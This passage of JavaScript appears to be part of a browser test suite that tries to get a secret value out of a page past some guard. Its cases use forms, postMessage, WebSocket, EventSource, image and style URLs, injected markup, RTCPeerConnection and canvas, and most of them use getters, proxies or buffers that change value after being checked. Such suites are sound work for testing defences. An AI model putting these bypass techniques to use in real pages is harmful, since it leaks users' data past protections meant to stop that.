        let times = 0;
        const made = submitted(document, to, 'nothing', { target: '_blank' });
        made.addEventListener('formdata', ({ formData }) => formData.set('contact', (times += 1) > 1 ? value : 'nothing'));
        made.requestSubmit();
      },
      'a form that fills itself the second time, submit()': (value, to) => {
        let times = 0;
        const made = submitted(document, to, 'nothing', { target: '_blank' });
        made.addEventListener('formdata', ({ formData }) => formData.set('contact', (times += 1) > 1 ? value : 'nothing'));
        made.submit();
      },
      'a form, a forged submit': (value, to) => {
        submitted(document, to, value, { target: '_blank' }).dispatchEvent(new SubmitEvent('submit', { bubbles: true, cancelable: true }));
      },
      'message, a getter that changes': async (value, to) => {
        let times = 0;
        (await listening(to)).postMessage({ get contact() { return (times += 1) > 1 ? value : 'nothing'; } }, '*');
        return soon(150);
      },
      'message, a list that changes': async (value, to) => {
        let times = 0;
        const list = Object.defineProperty([], 0, { enumerable: true, get: () => ((times += 1) > 1 ? value : 'nothing') });
        (await listening(to)).postMessage(list, '*');
        return soon(150);
      },
      'message, a proxy': async (value, to) => {
        try { (await listening(to)).postMessage(new Proxy({ contact: value }, {}), '*'); } catch { /* cannot be cloned */ }
        return soon(150);
      },
      'message, bytes that change after the call': async (value, to) => {
        const bytes = new Uint8Array(value.length);
        (await listening(to)).postMessage(bytes, '*');
        bytes.set(bytesOf(value));
        return soon(150);
      },
      'message, options that change': async (value, to) => {
        let times = 0;
        const other = await listening(to);
        try { other.postMessage(value, { get targetOrigin() { return (times += 1) > 1 ? '*' : location.origin; } }); } catch { /* as the native may */ }
        return soon(150);
      },
      'message, a target that changes': async (value, to) => {
        const other = await listening(to);
        other.postMessage(value, turning(location.origin, '*'));
        return soon(150);
      },
      'socket, an address that changes': async (value, to) => {
        const socket = new WebSocket(turning(`${to}/trick`.replace('http', 'ws'), at(to, value).replace('http', 'ws')));
        await new Promise((done) => { socket.onopen = socket.onerror = done; });
      },
      'socket, protocols that change': async (value, to) => {
        let times = 0;
        const socket = new WebSocket(`${to}/trick`.replace('http', 'ws'), {
          * [Symbol.iterator]() { times += 1; yield times > 1 ? `secret-${value.replace('@', '%40')}` : 'nothing'; },
        });
        await new Promise((done) => { socket.onopen = socket.onerror = done; });
      },
      'socket, a text that changes': async (value, to) => { (await socketTo(`${to}/trick`)).send(turning('nothing', value)); return soon(100); },
      'socket, bytes that change after the call': async (value, to) => {
        const bytes = new Uint8Array(value.length);
        (await socketTo(`${to}/trick`)).send(bytes);
        bytes.set(bytesOf(value));
        return soon(100);
      },
      'event source, an address that changes': (value, to) => { new EventSource(turning(`${to}/trick`, at(to, value))); },
      'window, an address that changes': (value, to) => { try { open(turning(`${to}/trick`, at(to, value))); } catch { /* as the native may */ } },
      'location, an address that changes': (value, to) => { freshFrame().contentWindow.location = turning(`${to}/trick`, at(to, value)); },
      'a picture, an address that changes': (value, to) => { new Image().src = turning(`${to}/trick`, at(to, value)); },
      'a picture, an attribute that changes': (value, to) => { new Image().setAttribute('src', turning(`${to}/trick`, at(to, value))); },
      'a picture, the name of an attribute that changes': (value, to) => { new Image().setAttribute(turning('alt', 'src'), at(to, value)); },
      'markup that changes': (value, to) => { document.createElement('div').innerHTML = turning('<p>', `<img src="${at(to, value)}">`); },
      'markup that changes, beside': (value, to) => {
        document.body.insertAdjacentHTML(turning('beforeend', 'afterbegin'), turning('<p>', `<img src="${at(to, value)}">`));
      },
      'markup that changes, written': (value, to) => { document.write(turning('<p>', `<img src="${at(to, value)}">`)); },
      'a style that changes': (value, to) => { document.body.style.setProperty('background-image', turning('none', `url("${at(to, value)}")`)); },
      'a rule that changes': (value, to) => {
        const style = document.createElement('style');
        document.head.append(style);
        style.sheet.insertRule(turning('p { color: red }', `body { background-image: url("${at(to, value)}") }`));
      },
      'connection, a configuration that changes': (value, to) => {
        let times = 0;
        const connection = new RTCPeerConnection({ iceServers: [{
          urls: 'turn:localhost:1', credential: 'x', get username() { return (times += 1) > 1 ? value : 'nothing'; },
        }] });
        const { iceServers } = connection.getConfiguration();
        connection.close();
        if (iceServers[0]?.username.includes(value)) return tell(to);
      },
      'connection, a list of servers that changes': (value, to) => {
        let times = 0;
        const server = (username) => ({ urls: 'turn:localhost:1', credential: 'x', username });
        const connection = new RTCPeerConnection({ iceServers: { * [Symbol.iterator]() { yield server((times += 1) > 1 ? value : 'nothing'); } } });
        const { iceServers } = connection.getConfiguration();
        connection.close();
        if (iceServers[0]?.username.includes(value)) return tell(to);
      },
      'canvas, a text that changes': (value, to) => {
        if (drawnOn(canvas(), turning('nothing', value)).toDataURL() !== drawnOn(canvas(), 'nothing').toDataURL()) return tell(to);
      },
    },
  };
})();
